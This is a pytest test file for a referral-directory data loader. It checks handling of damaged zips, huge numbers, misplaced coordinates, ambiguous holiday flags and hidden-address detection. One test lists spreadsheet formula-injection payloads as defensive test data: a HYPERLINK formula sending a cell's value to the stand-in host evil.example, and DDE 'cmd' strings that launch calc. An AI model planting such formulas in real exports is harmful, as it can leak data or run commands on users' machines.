"""Somebody sends a package to do harm, or one that was harmed on its way: what is wrong is named, the rest is kept."""

import csv
import io
import json
import zipfile

import pytest

from referral import tables
from referral.export import export_tables
from referral.fields import Fault, is_formula
from referral.telltale import is_street, telltale
from referral.withheld import is_mark
from tests.referral.packages import key, organization, service, write_package
from tests.referral.test_load import kept_in, told


def test_a_number_of_thousands_of_digits_costs_only_itself(directory, tmp_path):
    good, bad = json.dumps(organization()), json.dumps(organization("Bad"))
    bad = f'{bad[:-1]}, "year_incorporated": {"9" * 5_000}}}'
    path = tmp_path / "organizations.json"
    path.write_text(f"[{good}, {bad}]")

    report = directory.load(path)

    assert [(bad.field, bad.fault, bad.kept) for bad in report.bad] == [
        ("organization.year_incorporated", Fault.NOT_A_NUMBER, True)
    ]
    assert report.kept["organization"].added == 2


@pytest.mark.parametrize("damaged", ["datapackage.json", "services.csv"])
def test_a_zip_that_was_damaged_gives_what_is_whole(directory, tmp_path, damaged):
    folder = write_package(tmp_path / "p", organization=[organization()], service=[service()])
    path = tmp_path / "p.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as packed:
        for each in sorted(folder.iterdir()):
            packed.write(each, each.name)
    content = (folder / damaged).read_bytes()
    path.write_bytes(path.read_bytes().replace(content, content[:-3] + b"zzz"))

    report = directory.load(path)

    assert {bad.file for bad in report.bad} == {damaged}
    assert kept_in(directory, tables.organization)


def test_no_text_goes_out_that_a_spreadsheet_would_work_out(directory, tmp_path):
    names = {
        '=HYPERLINK("http://evil.example?"&A1,"x")': 'HYPERLINK("http://evil.example?"&A1,"x")',
        "+cmd|' /C calc'!A0": "cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0": "2+3+cmd|' /C calc'!A0",
        "@SUM(1)": "SUM(1)",
        "\t=1+1": "1+1",
        "@home": "@home",
        "- Soup\n- Bread": "- Soup\n- Bread",
    }
    rows = [organization(f"n{n}", alternate_name=text) for n, text in enumerate(names)]
    phones = [{"id": key("p"), "organization_id": key("n0"), "number": "+1 (500) 555-0101"}]
    report = directory.load(write_package(tmp_path / "p", organization=rows, phone=phones))

    assert [bad.fault for bad in report.bad] == [Fault.FORMULA] * 5
    kept = {row["name"]: row for row in kept_in(directory, tables.organization).values()}
    assert [kept[f"n{n}"]["alternate_name"] for n in range(len(names))] == list(names.values())
    with directory.read() as connection:
        export_tables(connection, tmp_path / "out")
    for path in (tmp_path / "out").glob("*.csv"):
        for row in csv.reader(io.StringIO(path.read_text())):
            assert not any(map(is_formula, row))
    assert told(directory.load(tmp_path / "out")) == []
    assert kept_in(directory, tables.phone)[key("p")]["number"] == "+1 (500) 555-0101"


def test_a_point_in_the_sea_or_the_wrong_way_round_is_left_out_and_a_far_one_told(
    directory, tmp_path
):
    rows = [
        {"id": key(f"{n}"), "location_type": "physical", "latitude": 38.9 + n / 100}
        | {"longitude": -77.03}
        for n in range(12)
    ]
    rows[0] |= {"latitude": 0, "longitude": 0}
    rows[1] |= {"latitude": -77.03, "longitude": 38.9}
    rows[2] |= {"latitude": 14.6, "longitude": -17.4}
    report = directory.load(write_package(tmp_path / "p", location=rows))

    assert told(report) == [
        ("locations.csv", 2, "latitude", Fault.NO_POINT, True),
        ("locations.csv", 3, "latitude", Fault.TURNED_ROUND, True),
        ("locations.csv", 4, "latitude", Fault.FAR_AWAY, True),
    ]
    kept = kept_in(directory, tables.location)
    assert [kept[key(f"{n}")]["latitude"] for n in range(4)] == [None, None, 14.6, 38.93]


def test_a_holiday_that_is_perhaps_one_is_refused_by_its_field(directory, tmp_path):
    folder = tmp_path / "p"
    folder.mkdir()
    (folder / "organizations.csv").write_text("id,name,description,url\n1,Org,d,\n")
    (folder / "services.csv").write_text(
        "id,organization_id,name,status,location_id\n1,1,S,active,\n"
    )
    days = "2026-12-25,2026-12-25"
    (folder / "holiday_schedules.csv").write_text(
        "id,service_id,closed,start_date,end_date,opens_at,closes_at\n"
        f"1,1,maybe,{days},,\n2,1,TRUE,{days},,\n3,1,no,{days},10:00,12:00\n"
    )

    report = directory.load(folder)

    assert told(report) == [("holiday_schedules.csv", 2, "closed", Fault.NOT_A_CHOICE, False)]
    assert {row["notes"] for row in kept_in(directory, tables.schedule).values()} == {
        "closed",
        None,
    }


def test_a_mark_and_an_address_are_known_however_they_are_written():
    for spelt in ("confidential location", "Confidential–location", "ConfidentialLocation", "ｃonfidential_LOCATION"):  # fmt: skip
        assert is_mark(spelt)
    assert not is_mark("confidential")

    lines = ["14 Wren Close", "Ｈill Ｒow 3"]
    tells = telltale(
        lines,
        [(48.51234, 12.2)],
        [("AN99 1", lines[0]), ("33101", "12 Main Street"), ("2026", "11 Mill Lane")],
        ["33101"],
    )
    for text in (
        "14%20Wren%2520Close",
        "14&nbsp;wren close",
        "14 ＷＲＥＮ Clo\u00adse",
        "hill row 3",
        "ask at AN991",
        "an99-1 it is",
        "Main, 33101",
        "12 / 33101",
        "Mill, 2026",
        "at 48.5123, 12.2000",
    ):
        assert tells.is_in(text), text
    for text in ("33101", "Serves 33101 and around", "2026-11-25", "14 Close", "an 99", "Mill 12"):
        assert not tells.is_in(text), text
    assert is_street("14 Wren Close")
    assert is_street("Rose House, Wren Close")
    assert not any(map(is_street, ("Suite 100", "3rd floor", "Apt 4B", "Back door", "Lodge")))
